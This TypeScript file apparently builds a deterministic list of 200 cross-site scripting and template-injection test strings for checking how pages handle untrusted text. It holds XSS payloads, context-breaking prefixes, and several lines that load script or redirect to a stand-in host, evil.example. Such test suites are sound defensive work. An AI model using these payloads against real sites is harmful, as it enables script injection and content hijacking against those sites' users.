/** Markup that executes code or loads external content if a page interprets text as markup. Short, to fit into most fields. */
const MARKUP = [
  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<body onload=alert(1)>'],
  ...['<svg/onload=alert`1`>', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>'],
  ...['<video src=x onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>'],
  ...[
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data=javascript:alert(1)>',
  ],
  ...['<embed src=javascript:alert(1)>', '<a href=javascript:alert(1)>x</a>', '<form action=javascript:alert(1)>'],
  ...['<base href=//evil.example>', '<link rel=stylesheet href=//evil.example>', '<style>*{display:none}</style>'],
  ...['<meta http-equiv=refresh content=0;url=//evil.example>', '<script src=//evil.example></script>'],
  ...['<img src=//evil.example/x>', '<math><mi xlink:href=javascript:alert(1)>x', '<p style=position:fixed;inset:0>x'],
];

/** Sequences that might close the context of a text. */
const ENDS = ['', '">', "'>", '-->', '</title>', '</textarea>', ']]>', '</script>'];

/** Text that other languages than HTML would run. */
const OTHERS = [
  ...[
    'javascript:alert(1)',
    '"onmouseover=alert(1) x="',
    "'-alert(1)-'",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is injected as a text, and must stay one.
    '${alert(1)}',
    '{{constructor.constructor("alert(1)")()}}',
  ],
  ...['&lt;script&gt;alert(1)&lt;/script&gt;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)'],
];

/** 200 of them, the same ones in the same order each time. */
export const INJECTED_SCRIPTS: readonly string[] = [
  ...MARKUP.flatMap((markup) => ENDS.map((end) => `${end}${markup}`)),
  ...OTHERS,
].slice(0, 200);
